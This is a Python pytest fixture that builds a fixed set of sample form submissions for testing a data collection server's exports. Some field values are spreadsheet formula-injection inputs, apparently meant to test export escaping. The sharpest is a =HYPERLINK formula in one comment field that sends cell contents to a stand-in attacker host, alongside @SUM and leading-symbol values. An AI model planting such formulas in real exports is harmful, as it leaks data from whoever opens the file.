"""The export tests' fixed world: the sample form in two versions and five submissions.

Submissions go in as ODK Collect sends them (multipart POST to the app user's URL), one is
edited (meta/deprecatedID) and some are reviewed through the API. Receipt times are then
pinned, because SubmissionDate is the server's clock and the golden files must not move.
"""

from __future__ import annotations

import io
from dataclasses import dataclass
from datetime import UTC, datetime
from functools import cached_property
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import update

from collect.storage.db import db
from collect.storage.models import Submission
from tests.conftest import make_user
from tests.exports.forms import xlsx
from tests.helpers import XLSX, Api

FORM = "exports_sample"
V1 = "2024010101"
V2 = "2024020101"


@dataclass
class Sample:
    """The project, who can see it, and the URLs of its exports."""

    app: Flask
    project: int
    admin: Api
    device: dict[str, Any]
    client: FlaskClient

    @cached_property
    def manager(self) -> Api:
        """A project manager, made on first use (password hashing is slow on purpose)."""
        return self._member("manager")

    @cached_property
    def viewer(self) -> Api:
        """A project viewer: the evaluator."""
        return self._member("viewer")

    def _member(self, role: str) -> Api:
        actor_id, api = make_user(self.app, self.client, f"{role}@example.org")
        assigned = self.admin.post(f"/v1/projects/{self.project}/assignments/{role}/{actor_id}")
        assert assigned.status_code == 200, assigned.get_json()
        return api

    def url(self, kind: str, query: str = "") -> str:
        base = f"/v1/projects/{self.project}/forms/{FORM}/submissions.{kind}"
        return f"{base}?{query}" if query else base


def xml(version: str, instance_id: str, body: str, *, deprecated: str | None = None) -> bytes:
    """A submission as Collect writes it: the form's root with its id and version."""
    meta = f"<instanceID>{instance_id}</instanceID>"
    if deprecated:
        meta += f"<deprecatedID>{deprecated}</deprecatedID>"
    return (
        "<?xml version='1.0' ?>"
        f'<data xmlns:jr="http://openrosa.org/javarosa" xmlns:orx="http://openrosa.org/xforms" '
        f'id="{FORM}" version="{version}">{body}<meta>{meta}</meta></data>'
    ).encode()


def send(
    client: FlaskClient,
    project: int,
    token: str,
    body: bytes,
    files: dict[str, bytes] | None = None,
    device_id: str = "collect:Xa3kF9pQ2mZ8vB1c",
) -> None:
    """POST one submission exactly as ODK Collect does."""
    data: dict[str, Any] = {"xml_submission_file": (io.BytesIO(body), "instance.xml", "text/xml")}
    for name, content in (files or {}).items():
        data[name] = (io.BytesIO(content), name, "image/jpeg")
    response = client.post(
        f"/v1/key/{token}/projects/{project}/submission?deviceID={device_id}",
        data=data,
        content_type="multipart/form-data",
        headers={"X-OpenRosa-Version": "1.0"},
    )
    assert response.status_code == 201, response.data


S1 = xml(
    V1,
    "uuid:0a1b2c3d-0001-4000-8000-000000000001",
    "<respondent>Alice Martin</respondent><age>34</age>"
    "<household><head>yes</head><barriers>distance cost</barriers>"
    "<location>12.5 -1.25 300 4.5</location></household>"
    "<member><member_name>Bob</member_name><member_age>10</member_age>"
    "<contact><phone>+221 77 000 00 01</phone></contact>"
    "<visit><visit_date>2024-01-02</visit_date><visit_done>yes</visit_done></visit>"
    "<visit><visit_date>2024-01-03</visit_date><visit_done>no</visit_done></visit></member>"
    "<member><member_name>Carol</member_name><member_age>40</member_age>"
    "<contact><phone/></contact></member>"
    "<photo>1704877200001.jpg</photo><id_photo>1704877200002.jpg</id_photo>"
    '<comment>=HYPERLINK("http://evil.example/?leak="&amp;A1,"Details")</comment>'
    "<score>-3.5</score><interviewed_at>2024-01-10T11:00:00.000+02:00</interviewed_at>"
    "<old_note>only in version 1</old_note>",
)
S2 = xml(
    V1,
    "uuid:0a1b2c3d-0002-4000-8000-000000000002",
    "<respondent>+33 6 12 34 56 78</respondent><age>-1</age>"
    "<household><head>no</head><barriers/><location/></household>"
    "<member><member_name>@SUM(A1:A9)</member_name><member_age>-2</member_age>"
    "<contact><phone>-555</phone></contact>"
    "<visit><visit_date>2024-01-21</visit_date><visit_done>yes</visit_done></visit></member>"
    "<photo>1705741200001.jpg</photo><id_photo/>"
    "<comment>-not a number</comment><score>-0.25</score><interviewed_at/>"
    "<old_note>\tindented, with a comma</old_note>",
)
S3 = xml(
    V1,
    "uuid:0a1b2c3d-0003-4000-8000-000000000003",
    "<respondent>Rejected Person</respondent><age>51</age>"
    "<household><head>yes</head><barriers>language</barriers>"
    "<location>-33.9 18.4 12 3</location></household>"
    "<photo/><id_photo/><comment>line one\nline two</comment><score>7</score>"
    "<interviewed_at>2024-02-05T08:30:00.000Z</interviewed_at><old_note/>",
)
S4 = xml(
    V2,
    "uuid:0a1b2c3d-0004-4000-8000-000000000004",
    "<respondent>Dembo Diallo</respondent><age>29</age>"
    "<household><head>no</head><barriers>safety language</barriers>"
    "<location>14.7167 -17.4677 0 10</location></household>"
    "<member><member_name>Eve</member_name><member_age>3</member_age>"
    "<contact><phone/></contact></member>"
    "<member><member_name>Fatou</member_name><member_age>31</member_age>"
    "<contact><phone>+221 77 000 00 04</phone></contact>"
    "<visit><visit_date>2024-02-28</visit_date><visit_done>no</visit_done></visit>"
    "<visit><visit_date>2024-02-29</visit_date><visit_done>yes</visit_done></visit></member>"
    "<photo/><id_photo>1709283600001.jpg</id_photo>"
    "<comment>&#13;starts with a carriage return</comment><score>12</score>"
    "<interviewed_at>2024-03-01T09:15:00.000Z</interviewed_at><follow_up>yes</follow_up>",
)
S5 = xml(
    V2,
    "uuid:0a1b2c3d-0005-4000-8000-000000000005",
    "<respondent>Grace Ndiaye</respondent><age>45</age>"
    "<household><head>yes</head><barriers>cost</barriers><location/></household>"
    "<photo/><id_photo/><comment>before the edit</comment><score>1</score>"
    "<interviewed_at>2024-03-15T10:00:00.000Z</interviewed_at><follow_up>no</follow_up>",
)
S5_EDIT = xml(
    V2,
    "uuid:0a1b2c3d-0005-4000-8000-0000000000e5",
    "<respondent>Grace Ndiaye</respondent><age>46</age>"
    "<household><head>yes</head><barriers>cost distance</barriers><location/></household>"
    "<photo/><id_photo/><comment>after the edit</comment><score>2</score>"
    "<interviewed_at>2024-03-15T10:00:00.000Z</interviewed_at><follow_up>yes</follow_up>",
    deprecated="uuid:0a1b2c3d-0005-4000-8000-000000000005",
)
RECEIVED = {
    "uuid:0a1b2c3d-0001-4000-8000-000000000001": datetime(2024, 1, 10, 9, 0, 0, 125000, UTC),
    "uuid:0a1b2c3d-0002-4000-8000-000000000002": datetime(2024, 1, 20, 17, 45, 0, tzinfo=UTC),
    "uuid:0a1b2c3d-0003-4000-8000-000000000003": datetime(2024, 2, 5, 8, 31, 0, tzinfo=UTC),
    "uuid:0a1b2c3d-0004-4000-8000-000000000004": datetime(2024, 3, 1, 9, 20, 0, tzinfo=UTC),
    "uuid:0a1b2c3d-0005-4000-8000-000000000005": datetime(2024, 3, 15, 10, 5, 0, tzinfo=UTC),
}
KEYS = list(RECEIVED)


def review(sample: Sample, instance_id: str, state: str) -> None:
    response = sample.admin.patch(
        f"/v1/projects/{sample.project}/forms/{FORM}/submissions/{instance_id}",
        json={"reviewState": state},
    )
    assert response.status_code == 200, response.get_json()


def publish_version_2(admin: Api, project: int) -> None:
    draft = admin.post(
        f"/v1/projects/{project}/forms/{FORM}/draft",
        data=xlsx("exports_sample_v2"),
        headers={"Content-Type": XLSX},
    )
    assert draft.status_code == 200, draft.get_json()
    published = admin.post(f"/v1/projects/{project}/forms/{FORM}/draft/publish")
    assert published.status_code == 200, published.get_json()


@pytest.fixture
def sample(app: Flask, client: FlaskClient, admin: Api, project: int, app_user: Any) -> Sample:
    """The sample form with its five submissions, as described in this module's docstring."""
    created = admin.post(
        f"/v1/projects/{project}/forms?publish=true",
        data=xlsx("exports_sample_v1"),
        headers={"Content-Type": XLSX},
    )
    assert created.status_code == 200, created.get_json()
    device = app_user(FORM, name="Enumerator 1")
    world = Sample(app, project, admin, device, client)
    token = device["token"]
    send(
        client, project, token, S1, {"1704877200001.jpg": b"photo-1", "1704877200002.jpg": b"id-1"}
    )
    send(client, project, token, S2, device_id="collect:Qw7Er9Ty1Ui3Op5A")
    send(client, project, token, S3)
    publish_version_2(admin, project)
    send(client, project, token, S4, {"1709283600001.jpg": b"id-4"})
    send(client, project, token, S5)
    send(client, project, token, S5_EDIT)
    review(world, KEYS[1], "approved")
    review(world, KEYS[2], "rejected")
    review(world, KEYS[3], "hasIssues")
    with app.app_context():
        for instance_id, moment in RECEIVED.items():
            db.session.execute(
                update(Submission)
                .where(Submission.instance_id == instance_id)
                .values(created_at=moment)
            )
        db.session.commit()
    return world
